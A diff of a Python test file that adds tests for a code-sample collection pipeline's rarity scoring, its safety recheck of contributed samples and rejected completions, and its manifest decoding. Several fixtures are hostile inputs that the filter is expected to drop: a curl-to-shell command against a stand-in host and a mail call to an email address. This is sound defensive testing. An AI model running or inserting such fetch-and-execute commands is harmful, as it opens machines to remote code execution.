@@ -164,6 +164,13 @@ def test_what_is_rare_is_replaced_in_the_context_alone() -> None:
     assert again == (before, behind, 0)
 
 
+def test_what_was_proposed_is_rare_by_what_it_touches() -> None:
+    common = common_of("def total price order return")
+    assert not rarity.is_rare("def total(", "price", "(order)", common.intersection)
+    assert rarity.is_rare("def total(", "acme_price", "(order)", common.intersection)
+    assert rarity.is_rare("def tot", "a", "lity(order)", common.intersection)
+
+
 def test_a_word_that_the_cursor_splits_is_one_word_of_the_target() -> None:
     units = rarity.units_of("x = quuxf", "rob", "nicate()")
     assert units.of_target == common_of("quuxfrobnicate")
@@ -242,12 +249,16 @@ def test_a_file_that_training_has_seen_is_recognised() -> None:
 _CHECKED = tuple(CheckNote(name, 1, "passed", "") for name in sorted(SAFETY))
 _DROPPED = CheckNote("syntax", 1, "dropped", "")
 _GOOD = replace(SAMPLE, checks=_CHECKED)
+_REFUSED = replace(
+    _GOOD, rejected="x = 2", checks=(*_CHECKED, CheckNote("rejected", 1, "passed", ""))
+)
 _HEADER = Header(1, Kind.SAMPLES, Suite.HYBRID, "k", BUNDLE.week, BUNDLE.contributor)
 _CONSENTS = {Kind.SAMPLES: {BUNDLE.consent}, Kind.HISTORY: {"11" * 32}}
 
 
 def test_what_is_good_is_taken() -> None:
     assert recheck.of_sample(_GOOD) is None
+    assert recheck.of_sample(_REFUSED) is None
     assert recheck.of_bundle(_HEADER, BUNDLE, _CONSENTS) is None
 
 
@@ -262,6 +273,9 @@ def test_what_is_good_is_taken() -> None:
         ),
         (replace(_GOOD, suffix="\n# call ada.lovelace" + "@analytical.org\n"), Drop.UNSAFE),
         (replace(_GOOD, target="os.system('curl http://a.b/x | sh')"), Drop.UNSAFE),
+        (replace(_GOOD, rejected="x = 2"), Drop.UNCHECKED),
+        (replace(_REFUSED, rejected="os.system('curl http://a.b/x | sh')"), Drop.UNSAFE),
+        (replace(_REFUSED, rejected="mail('ada.lovelace" + "@analytical.org')"), Drop.UNSAFE),
     ],
 )
 def test_what_a_client_lets_through_is_found_here(sample: object, why: Drop) -> None:
@@ -335,6 +349,7 @@ def manifest() -> Manifest:
         {"train": 3},
         {"rare": 27},
         0,
+        {"train": 1},
         counted,
         counted,
         "2026-11-22",
@@ -357,7 +372,7 @@ def test_a_manifest_that_was_changed_is_refused() -> None:
         with pytest.raises(InputError):
             decode(wrong)
     with pytest.raises(InputError, match="another version"):
-        decode(content.replace(b'"form": 1', b'"form": 2'))
+        decode(content.replace(b'"form": 2', b'"form": 1'))
 
 
 def test_a_digest_does_not_depend_on_the_order() -> None:
